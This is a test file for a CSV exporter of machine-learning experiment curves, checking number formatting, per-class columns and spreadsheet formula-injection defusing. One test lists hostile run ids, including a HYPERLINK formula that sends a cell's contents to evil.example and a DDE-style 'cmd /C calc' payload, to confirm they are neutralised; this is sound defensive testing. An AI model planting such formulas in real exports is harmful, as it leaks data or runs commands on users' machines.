import { describe, expect, it } from 'vitest';
import { flops } from '../accounting/units';
import { DEFAULT_CONFIG } from '../config/experimentConfig';
import { csvCell, curvesCsv } from './curvesCsv';
import type { CurvePoint, ExperimentResult, RunResult } from './resultTypes';

function run(id: string, scorer: string | null): RunResult {
  const point = { step: 0, testAccuracy: 0.1, trainLoss: null, flops: flops(0), wallMs: 0.4, noisySelectedFraction: null };
  return {
    id,
    policy: 'learnability',
    scorer,
    final: { testAccuracy: 0.1, steps: 0, flops: flops(0), wallMs: 0 },
    curve: [point, { ...point, step: 10, trainLoss: 2.5, flops: flops(1e9), wallMs: 12.6, noisySelectedFraction: 0.25 }],
    phaseFlops: { learner: 0, scoring: 0, online: 0, reference: 0 } as RunResult['phaseFlops'],
    referencePretrainFlops: flops(0),
    modelFlops: { learner: flops(1), scorer: null },
    phaseWallMs: { learner: 0, scoring: 0, online: 0, reference: 0 },
    referenceTestAccuracy: null,
  };
}

const result = (runs: RunResult[]): ExperimentResult => ({ config: DEFAULT_CONFIG, backend: 'cpu', runs, comparisons: [] });

/** Splits CSV text into rows of cells, honouring quotes (RFC 4180), as a spreadsheet would. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  let cell = '';
  let quoted = false;
  const endCell = () => {
    (rows.at(-1) as string[]).push(cell);
    cell = '';
  };
  for (let i = 0; i < text.length; i++) {
    const c = text[i] as string;
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (c === '"') quoted = !quoted;
    else if (quoted) cell += c;
    else if (c === ',') endCell();
    else if (c === '\n') {
      endCell();
      rows.push([]);
    } else cell += c;
  }
  return rows.filter((r) => r.length > 0);
}

describe('curves.csv', () => {
  it('writes ordinary runs exactly as before: numbers bare, empty for null', () => {
    const text = curvesCsv(result([run('learnability@ViT-Mu/8', 'ViT-Mu/8')]));
    expect(text).toBe(
      'run,policy,scorer,step,testAccuracy,trainLoss,flops,wallMs,noisySelectedFraction\n' +
        'learnability@ViT-Mu/8,learnability,ViT-Mu/8,0,0.1,,0,0,\n' +
        'learnability@ViT-Mu/8,learnability,ViT-Mu/8,10,0.1,2.5,1000000000,13,0.25\n',
    );
  });

  it('never lets an imported run id or scorer name reach a spreadsheet as a formula', () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '+1+2',
      '-2+3',
      '\t=1',
      '\r=1',
      'a,b',
      'say "hi"',
      'two\nlines',
    ];
    const rows = readCsv(curvesCsv(result(hostile.map((id) => run(id, id)))));
    expect(rows).toHaveLength(1 + 2 * hostile.length);
    for (const [i, id] of hostile.entries()) {
      const [runCell, , scorerCell] = rows[1 + 2 * i] as string[];
      // Each cell reads back as one cell holding the text; a formula start is defused by a leading apostrophe.
      const expected = /^[=+\-@\t\r]/.test(id) ? `'${id}` : id;
      expect(runCell).toBe(expected);
      expect(scorerCell).toBe(expected);
      expect(runCell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it('with per-class data: pick_share_c*, true_pick_share_c*, acc_c* and worst_class_accuracy, empty where a point lacks them', () => {
    const plain = run('learnability@ViT-Mi/4', 'ViT-Mi/4');
    const [first, second] = plain.curve as [CurvePoint, CurvePoint];
    const withClasses: ExperimentResult = {
      ...result([
        {
          ...plain,
          curve: [
            { ...first, classAccuracy: [0.5, null], worstClassAccuracy: 0.5 },
            { ...second, classPickShare: [0.25, 0.75], trueClassPickShare: [0.5, 0.5], classAccuracy: [1, 0.5], worstClassAccuracy: 0.5 },
          ],
        },
      ]),
      classNames: ['cat', 'dog'],
    };
    const rows = readCsv(curvesCsv(withClasses));
    expect(rows[0]!.slice(9)).toEqual([
      'pick_share_c0',
      'pick_share_c1',
      'true_pick_share_c0',
      'true_pick_share_c1',
      'acc_c0',
      'acc_c1',
      'worst_class_accuracy',
    ]);
    expect(rows[1]!.slice(9)).toEqual(['', '', '', '', '0.5', '', '0.5']);
    expect(rows[2]!.slice(9)).toEqual(['0.25', '0.75', '0.5', '0.5', '1', '0.5', '0.5']);
  });

  it('csvCell: numbers (negative too) stay numbers; text is defused and quoted', () => {
    expect(csvCell(-0.05)).toBe('-0.05');
    expect(csvCell(null)).toBe('');
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('=A1,"x"')).toBe('"\'=A1,""x"""');
    expect(csvCell('uniform')).toBe('uniform');
  });
});
